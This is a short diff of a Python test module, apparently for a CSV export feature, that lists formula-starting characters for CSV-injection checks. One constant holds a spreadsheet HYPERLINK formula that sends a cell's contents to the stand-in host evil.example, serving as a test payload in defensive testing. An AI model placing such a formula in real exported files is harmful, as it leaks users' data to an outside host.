@@ -12,14 +12,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from storage.exchange import FORMULA_START, read_records, write_csv
+from storage.exchange import read_records, write_csv
 from storage.models import Contact, Organisation
 from tests.conftest import COORDINATOR, RunningApp
 from tests.test_cli import contactbot
 from tests.test_slack_http import FORM, submission
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2;"Klicka här")'
-DANGEROUS = (*FORMULA_START,)
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")  # OWASP, "CSV Injection"
 TEXT_FIELDS = ("city", "person", "email", "unit", "summary", "benefit", "followup", "logged_by_name")
 
 
